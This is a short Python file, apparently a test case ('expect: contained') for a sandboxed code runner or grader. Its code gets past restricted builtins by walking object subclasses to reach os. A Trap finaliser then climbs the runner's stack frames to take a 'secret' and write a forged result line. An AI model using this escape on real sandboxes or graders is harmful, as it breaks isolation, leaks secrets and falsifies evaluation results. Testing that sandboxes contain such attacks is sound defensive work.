# Returns an object whose finaliser runs within the runner and climbs its frames to the secret.
# expect: contained
def system():
    """The globals of `os`, by way of what every object knows."""
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__


def module(name):
    return system()["__builtins__"]["__import__"](name)


def forge(out, secret, n):
    """Claims n + 1 for the call that is under way."""
    line = '%s %d {"returned":{"value":["int","%d"],"mutated":[]}}\n'
    module("os").write(out, (line % (secret, len(calls) - 1, n + 1)).encode())


calls = []


class Trap:
    def __init__(self, n):
        self.n = n

    def __del__(self):
        held = []

        def climb():
            frame = held[0].gi_frame
            while frame:
                names = frame.f_locals
                if "secret" in names and "out" in names:
                    forge(names["out"], names["secret"], 7)
                frame = frame.f_back
            yield

        held.append(climb())
        next(held[0])


def f(n: int) -> int:
    calls.append(n)
    return Trap(n)
